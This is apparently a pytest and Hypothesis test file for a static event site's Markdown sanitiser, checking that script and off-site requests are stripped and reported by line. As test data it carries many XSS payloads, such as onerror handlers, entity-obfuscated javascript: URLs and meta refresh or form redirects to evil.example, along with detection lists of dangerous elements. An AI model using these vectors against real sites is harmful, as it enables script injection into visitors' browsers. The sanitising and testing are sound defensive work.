"""Author Markdown is sanitised (eventsite.reading.sanitise): whatever an author writes, no script and no
request to another site reaches a page, and what sanitising removes is reported with its file,
line and field by `make check` and the build alike.

Hostile text is generated the way an attacker varies it (handlers, schemes spelt with entities,
tabs, line breaks and mixed case, reference definitions in block contexts, raw HTML, images and
links to other hosts), wrapped in the contexts Markdown treats differently (a quote, a list, a
table, a heading). Harm is judged on the HTML by BeautifulSoup, not by the sanitiser's own code.
"""

from __future__ import annotations

import html as html_lib
import re
import subprocess
import sys
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from conftest import TASTER, copy_project, joined, problems_in, write_folder
from eventsite.reading import sanitise
from hostile_text import (HOSTILE_BLOCKS, add_hostile_files, body_lines, hostile_body, hostile_programme,
                          yaml_block)

RENDER = sanitise.DEFAULT  # MkDocs' built-in extensions and attr_list, as the example site has

# --- what harm is, judged on the HTML -------------------------------------------------------------

DANGEROUS_ELEMENTS = {"script", "iframe", "frame", "frameset", "object", "embed", "svg", "math", "style",
                      "link", "meta", "base", "form", "input", "button", "textarea", "template", "noscript",
                      "details", "video", "audio", "source", "picture"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "srcset", "poster", "background",
                  "xlink:href", "cite", "longdesc"}
SAFE = {"http", "https", "mailto", "tel"}


def as_browser_reads(url: str) -> str:
    """A URL as a browser parses it: tabs and line breaks dropped anywhere, leading controls and
    spaces dropped, backslashes read as slashes, case folded."""
    url = re.sub(r"[\t\n\r]", "", url).lstrip("".join(map(chr, range(0x21)))).replace("\\", "/")
    return url.lower()


def harm(html: str) -> list[str]:
    """Everything in ``html`` that could run script or make a visitor's browser contact another host."""
    found = []
    for tag in BeautifulSoup(html, "html.parser").find_all(True):
        if tag.name in DANGEROUS_ELEMENTS or ":" in tag.name:
            found.append(f"<{tag.name}>")
        for name, value in tag.attrs.items():
            value = " ".join(value) if isinstance(value, list) else str(value)
            if name.startswith("on") or name in ("autofocus", "style") and "text-align" not in value:
                found.append(f"<{tag.name} {name}>")
            if name in URL_ATTRIBUTES:
                url = as_browser_reads(value)
                scheme = re.match(r"([a-z][a-z0-9+.-]*):", url)
                if scheme and scheme.group(1) not in SAFE:
                    found.append(f"<{tag.name} {name}={value!r}>: {scheme.group(1)}:")
                if url.startswith("//"):
                    found.append(f"<{tag.name} {name}={value!r}>: another host")
                if tag.name == "img" and scheme:
                    found.append(f"<img src={value!r}>: another host")
    return found


# --- each known way in ------------------------------------------------------------------------------

@pytest.mark.parametrize("name", HOSTILE_BLOCKS)
def test_each_known_way_in_is_removed_and_reported_at_its_line(name):
    text, line = HOSTILE_BLOCKS[name]
    assert harm(RENDER.rendered(text)), "the example should be harmful before sanitising"
    assert harm(RENDER.html(text)) == []
    problems = RENDER.problems(text)
    assert problems and {at for at, _ in problems} == {line}, problems


def test_all_ways_in_one_text_are_each_reported_at_their_own_line():
    text, starts = hostile_body()
    assert harm(RENDER.html(text)) == []
    lines = {at for at, _ in RENDER.problems(text)}
    assert lines == {starts[name] + at for name, (_, at) in HOSTILE_BLOCKS.items()}


@pytest.mark.parametrize("text, message", [
    ("Para\n{: onclick=\"alert(1)\" }", "sets onclick on <p>, which would run as script; remove it (an attribute "
                                        "list {: ... } may only give a heading an #id, or an image a width and height)"),
    ("[x](java\nscript:alert(1))", "links to a javascript: address; a link must start https://, http://, mailto: or "
                                   "tel:, or be an address on this site such as /events/"),
    ("<script>alert(1)</script>", "has HTML that pages leave out (<script>); remove it, or write it in Markdown: "
                                  "**bold**, *italic*, [link text](https://...)"),
    ("![x](https://evil.example/p.png)", "shows an image from outside this site ('https://evil.example/p.png'), "
                                         "which visitors' browsers would fetch from there; put the image in docs/ "
                                         "and give its path, such as /images/map.png"),
    ("[x](//evil.example/)", "links to '//evil.example/', another site's address without https:; write the "
                             "address in full, starting https://, or a path on this site such as /events/"),
    ("<javascript:alert(1)>", "has <javascript:alert(1)>, which is not a web address; write a link as "
                              "[link text](https://...), or an address on this site such as /events/"),
    ("A {: .md-button style=\"position:fixed\" }\n{: style=\"position:fixed\" }",
     "sets style on <p>, which pages leave out; remove it (an attribute list {: ... } may only give a heading "
     "an #id, or an image a width and height)"),
])
def test_messages_say_what_was_removed_and_what_to_write(text, message):
    assert [m for _, m in RENDER.problems(text)] == [message]


# --- generated hostile text -------------------------------------------------------------------------

HANDLERS = st.sampled_from(["onclick", "onmouseover", "onload", "onerror", "onfocus", "ONCLICK", "OnMouseOver",
                            "onpointerenter", "onanimationstart", "ontoggle", "onbegin"])
CALL = "alert(1)"


@st.composite
def script_address(draw) -> str:
    """javascript:, vbscript: or data:, spelt as browsers still read it."""
    scheme = draw(st.sampled_from(["javascript", "vbscript", "data"]))
    spelt = []
    for char in scheme:
        form = draw(st.sampled_from(["same", "same", "upper", "hex", "decimal", "tab-entity", "newline-entity",
                                     "line-break"]))
        spelt.append({"same": char, "upper": char.upper(), "hex": f"&#x{ord(char):x};", "decimal": f"&#{ord(char)};",
                      "tab-entity": char + "&#x09;", "newline-entity": char + "&#10;",
                      "line-break": char + "\n"}[form])
    colon = draw(st.sampled_from([":", ":", "&#58;", "&colon;", "&#x3A;"]))
    lead = draw(st.sampled_from(["", "", " ", "&#x20;", "&#1;"]))
    tail = "text/html,<script>alert(1)</script>" if scheme == "data" else CALL
    return lead + "".join(spelt) + colon + tail


OTHER_HOSTS = st.sampled_from(["//evil.example/x", "///evil.example/x", "/\\evil.example/x", "\\\\\\\\evil.example/x",
                               " //evil.example/x", "/&#x09;/evil.example/x", "https://evil.example/x",
                               "http://evil.example/x", "HTTPS://evil.example/x"])


@st.composite
def link(draw, target: str) -> str:
    """A link to ``target`` in one of Markdown's forms, or as raw HTML."""
    form = draw(st.sampled_from(["inline", "angle", "spaced", "titled", "reference", "raw", "raw-unquoted",
                                 "autolink", "image"]))
    if form == "reference":
        definition = f"[r]: {target}"
        where = draw(st.sampled_from(["after", "before", "quote", "list"]))
        if where == "quote":
            definition = "> " + definition.replace("\n", "\n> ")
        elif where == "list":
            definition = "- item\n\n    " + definition.replace("\n", "\n    ")
        use = "[the form][r]"
        return f"{definition}\n\n{use}" if where == "before" else f"{use}\n\n{definition}"
    return {"inline": f"[the form]({target})", "angle": f"[the form](<{target}>)", "spaced": f"[x]( {target} )",
            "titled": f'[x]({target} "a title")', "raw": f'<a href="{target}">x</a>',
            "raw-unquoted": f"<a href={target}>x</a>", "autolink": f"<{target}>",
            "image": f"![a picture]({target})"}[form]


@st.composite
def attribute_list(draw) -> str:
    handler = draw(HANDLERS)
    where = draw(st.sampled_from(["paragraph", "heading", "link", "image", "list", "code"]))
    attrs = f'{{: {handler}="{CALL}" }}' if draw(st.booleans()) else f"{{ {handler}={CALL} }}"
    return {"paragraph": f"Some text.\n{attrs}", "heading": f"## A heading {attrs}",
            "link": f"[a link](https://example.org/){attrs}", "image": f"![a picture](/images/a.png){attrs}",
            "list": f"- an item\n{attrs}", "code": f"```{attrs}\ncode\n```"}[where]


RAW_HTML = st.sampled_from([
    "<script>alert(1)</script>", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>", "<iframe src=//evil.example/>",
    "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>x</details>", "<p onclick=alert(1)>x</p>", "<body onload=alert(1)>",
    "<style>@import url(https://evil.example/x.css)</style>", "<math><mtext><img src=x onerror=alert(1)></math>",
    "<a href=javascript:alert(1)>x</a>", "<form action=https://evil.example/><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>", "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<video src=https://evil.example/v.mp4 autoplay>",
    "<input autofocus onfocus=alert(1)>", "<div style=\"background:url(//evil.example/x)\">x</div>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
])


@st.composite
def payload(draw) -> str:
    kind = draw(st.sampled_from(["script-link", "other-host", "attribute-list", "raw-html"]))
    if kind == "script-link":
        return draw(link(draw(script_address())))
    if kind == "other-host":
        return draw(link(draw(OTHER_HOSTS)))
    if kind == "attribute-list":
        return draw(attribute_list())
    return draw(RAW_HTML)


@st.composite
def in_context(draw, text: str) -> str:
    """``text`` where Markdown reads it differently: in a quote, a list, a table cell, a heading."""
    context = draw(st.sampled_from(["top", "top", "quote", "list", "nested", "table", "heading", "inline"]))
    one_line = "\n" not in text
    if context == "quote":
        return "> " + text.replace("\n", "\n> ")
    if context == "list":
        return "- " + text.replace("\n", "\n    ")
    if context == "nested":
        return "1. first\n    > " + text.replace("\n", "\n    > ")
    if context == "table" and one_line:
        return f"| a | b |\n|:--|--:|\n| {text} | 2 |"
    if context == "heading" and one_line:
        return f"### {text}"
    if context == "inline" and one_line:
        return f"Words before {text} and after."
    return text


PROSE = st.sampled_from(["An ordinary paragraph.", "**Bold** and *italic*.", "- a list\n- of two",
                         "[a fine link](https://example.org/)", "> a quotation", "## A heading", ""])


@st.composite
def hostile_markdown(draw) -> str:
    before, after = draw(st.lists(PROSE, max_size=3)), draw(st.lists(PROSE, max_size=3))
    return "\n\n".join([*before, draw(in_context(draw(payload()))), *after]) + "\n"


@settings(max_examples=1500, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(hostile_markdown())
def test_generated_hostile_markdown_never_survives_and_is_reported_within_the_text(text):
    assert harm(RENDER.html(text)) == [], text
    problems = RENDER.problems(text)
    if harm(RENDER.rendered(text)):
        assert problems, f"harmful Markdown was not reported: {text!r}"
    lines = text.count("\n") + 1
    assert all(0 <= at < lines and message for at, message in problems), problems


# --- what is not hostile stays as written ------------------------------------------------------------

ORDINARY = [
    "# Heading\n\n## Another {: #chosen-id }\n\nText with **bold**, *italic*, `code` and a line  \nbreak.",
    "[web](https://example.org/a?b=c&d=e) [plain](http://example.org/) [mail](mailto:events@example.org) "
    "[phone](tel:+441632960000) [page](/events/) [relative](../about/) [here](#section) [query](?x=1)",
    "![A map of the venue](/images/map.png){: width=\"300\" height=\"200\" }\n\n![Relative](images/map.png \"A title\")",
    "| Left | Centre | Right |\n|:-----|:------:|------:|\n| 1 | 2 | 3 |",
    "```python\nprint('<script>alert(1)</script>')\n```\n\nAnd `<iframe>` in code.",
    "> A quotation\n> on two lines\n\n1. one\n2. two\n    - nested",
    "[TOC]\n\n## Part one\n\n## Part two",
    "A [reference link][r] and <https://example.org/auto>.\n\n[r]: https://example.org/ref \"Its title\"",
    "3 < 5 and 5 > 3; AT&T, &copy; 2014 &amp; more.",
    "Line\n\n***\n\nAfter a rule.",
]


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_markdown_is_accepted_and_kept(text):
    assert RENDER.problems(text) == []
    kept = BeautifulSoup(RENDER.html(text), "html.parser")
    before = BeautifulSoup(RENDER.rendered(text), "html.parser")
    assert [t.name for t in kept.find_all(True)] == [t.name for t in before.find_all(True)]
    assert kept.get_text() == before.get_text()
    for a in kept.find_all("a"):
        assert a["rel"] == ["noopener", "noreferrer"]


def test_the_example_sites_own_texts_are_accepted():
    root = Path(__file__).resolve().parents[1]
    import yaml
    for path in sorted((root / "events").glob("[!_]*.yml")):
        data = yaml.safe_load(path.read_text(encoding="utf-8"))
        texts = [data.get("body", "")] + [o.get("description", "") for o in data.get("options", [])]
        for text in filter(None, texts):
            assert RENDER.problems(text) == [], path.name


def test_renderers_with_the_same_extensions_are_equal_and_others_not():
    assert sanitise.AuthorMarkdown(["attr_list"], {"toc": {"permalink": False}}) == sanitise.AuthorMarkdown(
        ["toc", "tables", "fenced_code", "attr_list"], {"toc": {"permalink": False}})
    assert sanitise.AuthorMarkdown([]) != sanitise.AuthorMarkdown(["attr_list"])


def test_without_attr_list_an_attribute_list_is_only_text():
    plain = sanitise.AuthorMarkdown([])
    assert plain.problems("Para\n{: onclick=\"alert(1)\" }") == []
    assert "{: onclick" in plain.html("Para\n{: onclick=\"alert(1)\" }")


def test_a_huge_hostile_text_is_checked_in_bounded_time():
    import time
    text = "A paragraph with [a link](https://example.org/).\n\n" * 8000 + "<script>alert(1)</script>\n"
    began = time.perf_counter()
    problems = RENDER.problems(text)
    assert problems and all("<script>" in m for _, m in problems)
    assert time.perf_counter() - began < 30


# --- located in the file, by make check and by validation --------------------------------------------

BODY_START = len(joined(TASTER).splitlines()) + 2  # the file line after "body: |"


@pytest.mark.parametrize("name", HOSTILE_BLOCKS)
def test_an_event_body_is_refused_at_the_line_that_brings_the_removal_in(tmp_path, name):
    text, at = HOSTILE_BLOCKS[name]
    event = joined(TASTER) + yaml_block("body", "A first paragraph.\n\n" + text + "\n", 0)
    problems = problems_in(write_folder(tmp_path, {"taster.yml": event}))
    assert problems and all(p.startswith(f"events/taster.yml:{BODY_START + 2 + at}: body: ") for p in problems), problems


@pytest.mark.parametrize("name", ["attr-list-paragraph", "split-link", "reference-in-list", "raw-script",
                                  "external-image", "protocol-relative-link"])
def test_a_programme_option_description_is_refused_with_its_line(tmp_path, name):
    text, at = HOSTILE_BLOCKS[name]
    programme = hostile_programme("emc", body="An introduction.\n", description="Before.\n\n" + text + "\n")
    problems = problems_in(write_folder(tmp_path, {"plan.yml": programme}))
    line = body_lines(programme, "description") + 2 + at
    assert problems and all(p.startswith(f"events/plan.yml:{line}: options[1].description: ") for p in problems), \
        problems


def test_a_quoted_body_is_refused_at_a_line_inside_it(tmp_path):
    event = joined(TASTER) + 'body: "First.\\n\\nSecond <script>alert(1)</script>\\n\\nThird."\n'
    (problem,) = problems_in(write_folder(tmp_path, {"taster.yml": event}))
    assert problem.startswith(f"events/taster.yml:{BODY_START - 1}: body: has HTML that pages leave out (<script>)")


@pytest.fixture(scope="module")
def hostile_project(tmp_path_factory) -> Path:
    project = copy_project(tmp_path_factory.mktemp("hostile-check") / "site")
    add_hostile_files(project)
    return project


def test_make_check_reports_every_way_in_with_file_line_and_field(hostile_project):
    root = Path(__file__).resolve().parents[1]
    result = subprocess.run([sys.executable, str(root / "hooks" / "eventsite" / "cli.py"), "-f",
                             str(hostile_project / "mkdocs.yml"), "check"], capture_output=True, text=True, timeout=120)
    assert result.returncode == 1
    reported = result.stdout.splitlines()
    _, starts = hostile_body()
    for file, field, first in [("hostile-event.yml", "body", None), ("hostile-programme.yml", "body", None),
                               ("hostile-programme.yml", "options[1].description", None)]:
        source = (hostile_project / "events" / file).read_text(encoding="utf-8")
        key = field.rsplit(".", 1)[-1]
        first = body_lines(source, key) if key == "body" else body_lines(source, "description")
        lines = {int(line.split(":")[1]) for line in reported if line.startswith(f"events/{file}:")
                 and f": {field}: " in line}
        assert lines == {first + starts[name] + at for name, (_, at) in HOSTILE_BLOCKS.items()}, (file, field)
    assert all(re.fullmatch(r"events/hostile-[a-z]+\.yml:\d+: [a-z\[\]1.]+: .+; .+", line) for line in reported)


def test_the_build_refuses_with_the_same_lines_as_make_check(hostile_project):
    from conftest import run_build
    root = Path(__file__).resolve().parents[1]
    check = subprocess.run([sys.executable, str(root / "hooks" / "eventsite" / "cli.py"), "-f",
                            str(hostile_project / "mkdocs.yml"), "check"], capture_output=True, text=True, timeout=120)
    build = run_build(hostile_project, "--site-dir", "refused-site", EVENTS_TODAY="2014-11-20")
    assert build.returncode != 0
    assert "Traceback" not in build.stderr
    said = build.stdout + build.stderr
    built_lines = [re.sub(r"^ERROR\s+-\s+", "", line) for line in said.splitlines() if "events/hostile-" in line]
    assert built_lines == check.stdout.splitlines()
    assert not (hostile_project / "refused-site" / "events" / "hostile-event").exists()


def test_entities_in_messages_are_shown_as_the_author_wrote_them():
    (at, message), = RENDER.problems("[away](//evil.example/?a=1&amp;b=2)")
    assert html_lib.unescape("//evil.example/?a=1&b=2") in message


# --- the site's own extensions -------------------------------------------------------------------

HANDLER_EVENT = """\
title: An event with an attribute list
summary: Its body sets a handler.
organiser: east-midlands-councils
sessions:
  - id: one
    start: 2014-12-11 10:00
    end: 13:00
    venue: emc-melton
body: |
  A paragraph.
  {: onclick="alert(1)" }
"""


def _site_with(tmp_path, extensions: str) -> Path:
    project = copy_project(tmp_path / "site")
    config = project / "mkdocs.yml"
    text = config.read_text(encoding="utf-8")
    start = text.index("markdown_extensions:\n")
    end = text.index("\n\n", start)
    config.write_text(text[:start] + extensions + text[end:], encoding="utf-8")
    (project / "events" / "handler.yml").write_text(HANDLER_EVENT, encoding="utf-8")
    return project


def test_check_and_build_render_with_the_sites_own_extensions(tmp_path):
    from conftest import build_ok
    from eventsite.reading import project as project_module
    with_attr_list = _site_with(tmp_path / "a", "markdown_extensions:\n  - attr_list\n  - toc:\n      permalink: false")
    _, problems = project_module.check(with_attr_list)
    assert [str(p) for p in problems] == [
        "events/handler.yml:11: body: sets onclick on <p>, which would run as script; remove it (an attribute list "
        "{: ... } may only give a heading an #id, or an image a width and height)"]
    without = _site_with(tmp_path / "b", "markdown_extensions:\n  - toc:\n      permalink: false")
    assert project_module.check(without)[1] == []
    build_ok(without, EVENTS_PDF="no")  # the build agrees: {: ... } is only text there
    page = (without / "site" / "events" / "handler" / "index.html").read_text(encoding="utf-8")
    assert '{: onclick="alert(1)" }' in BeautifulSoup(page, "html.parser").select_one(".event__body").get_text()


def test_an_extension_that_cannot_be_loaded_is_named_at_its_line(tmp_path):
    from eventsite.reading import project as project_module
    project = _site_with(tmp_path, "markdown_extensions:\n  - attr_list\n  - no_such_extension_here")
    config = (project / "mkdocs.yml").read_text(encoding="utf-8").splitlines()
    line = config.index("markdown_extensions:") + 1
    _, problems = project_module.check(project)
    assert any(str(p).startswith(f"mkdocs.yml:{line}: markdown_extensions: cannot be loaded (")
               and "no_such_extension_here" in str(p) for p in problems), problems
